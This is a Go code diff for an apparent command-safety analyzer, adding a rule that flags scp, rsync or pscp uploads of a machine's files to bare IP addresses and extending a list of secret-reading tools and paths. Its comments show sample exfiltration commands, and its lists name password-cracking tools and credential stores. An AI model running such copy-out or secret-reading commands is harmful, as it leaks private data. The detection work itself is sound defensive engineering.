@@ -270,6 +270,40 @@ var exfiltrationRules = []*rule{
 			}
 			return false, ""
 		}},
+	{ID: "files-copied-to-address", Level: LevelHigh, Category: CategoryExfiltration, Description: "copying the machine's files (not the project's) to a bare IP address",
+		Suggestions: suggExfil, names: names("scp", "rsync", "pscp"),
+		match: func(a *analysis, c *cmd) (bool, string) {
+			// scp /var/log/app.log ops@203.0.113.8:/srv/, rsync -az
+			// ~/exports/ drop@198.51.100.7:: an upload of files outside
+			// the project whose far end is an address; a download from
+			// one (scp ops@203.0.113.8:app.log .) passes
+			ops := c.operands()
+			if len(ops) < 2 {
+				return false, ""
+			}
+			last := ops[len(ops)-1].s
+			if !isRemoteSpec(last) || !isPublicIP(hostOf(last)) {
+				return false, ""
+			}
+			for _, w := range ops[:len(ops)-1] {
+				if w.s != "" && (!isRemoteSpec(w.s) || winDrivePath(w.s)) && w.find == nil {
+					// the machine's own files (a release of the project
+					// copied to its server is a deploy)
+					p := a.absPath(w.s, c.cwd)
+					if winDrivePath(w.s) {
+						p = a.winAbs(w.s)
+					}
+					if p != "" && !a.inWork(p) && p != a.workDir && !buildOutputs[path.Base(strings.TrimSuffix(p, "/"))] {
+						return true, w.s + " → " + hostOf(last) // (a build's output is a release wherever it is)
+					}
+					continue
+				}
+				if isRemoteSpec(w.s) && !isPublicIP(hostOf(w.s)) {
+					return true, w.s + " → " + hostOf(last) // one host's files relayed to the address
+				}
+			}
+			return false, ""
+		}},
 	{ID: "exfil-git-push", Level: LevelHigh, Category: CategoryExfiltration, Description: "pushing the repository to a bare IP address",
 		Suggestions: []string{"Push only to the project's known remotes", "Check the remote URL with git remote -v"}, names: names("git"),
 		match: func(a *analysis, c *cmd) (bool, string) {
@@ -784,7 +818,7 @@ var exfiltrationRules = []*rule{
 		// unshadow, a token through jq or grep)
 		names: names("cat", "less", "more", "head", "tail", "strings", "xxd", "base64", "od", "hexdump", "bat", "nl", "tac",
 			"sqlite3", "sqlite", "duckdb", "jq", "yq", "gron", "unshadow", "john", "hashcat", "grep", "egrep", "fgrep", "rg",
-			"awk", "gawk", "sed", "cut", "sort", "hexyl", "view", "batcat", "tar", "bsdtar", "dd", "qrencode", "perl", "ruby", "column", "base32", "basenc", "tr", "fold", "paste", "python", "python3"),
+			"awk", "gawk", "sed", "cut", "sort", "hexyl", "view", "batcat", "tar", "bsdtar", "dd", "qrencode", "perl", "ruby", "column", "base32", "basenc", "tr", "fold", "paste", "python", "python3", "tdbdump"),
 		match: func(a *analysis, c *cmd) (bool, string) {
 			if c.name == "python" || c.name == "python3" {
 				// python3 -m json.tool ~/.terraform.d/credentials.tfrc.json:
@@ -907,7 +941,8 @@ var exfiltrationRules = []*rule{
 						continue // grep target: ~/.dbt/profiles.yml: the plain settings picked out
 					}
 					if _, _, home := a.homeRel(p); home || strings.HasPrefix(p, "/etc/") || strings.HasPrefix(p, "/proc/") || strings.HasPrefix(p, "/var/run/secrets/") || strings.HasPrefix(p, "/run/secrets/") ||
-						strings.HasPrefix(p, "/var/lib/") || strings.HasPrefix(d, "a deployed service's environment file") || strings.HasPrefix(d, "a server's passwords") || windowsDrivePath(p) {
+						strings.HasPrefix(p, "/var/lib/") || strings.HasPrefix(d, "a deployed service's environment file") || strings.HasPrefix(d, "a server's passwords") || windowsDrivePath(p) ||
+						serviceSecretFile(lower(p), lower(path.Base(p))) != "" {
 						// (Git Bash's /c/Windows/Panther/Unattend.xml: a
 						// Windows store the drive's path names)
 						return true, d
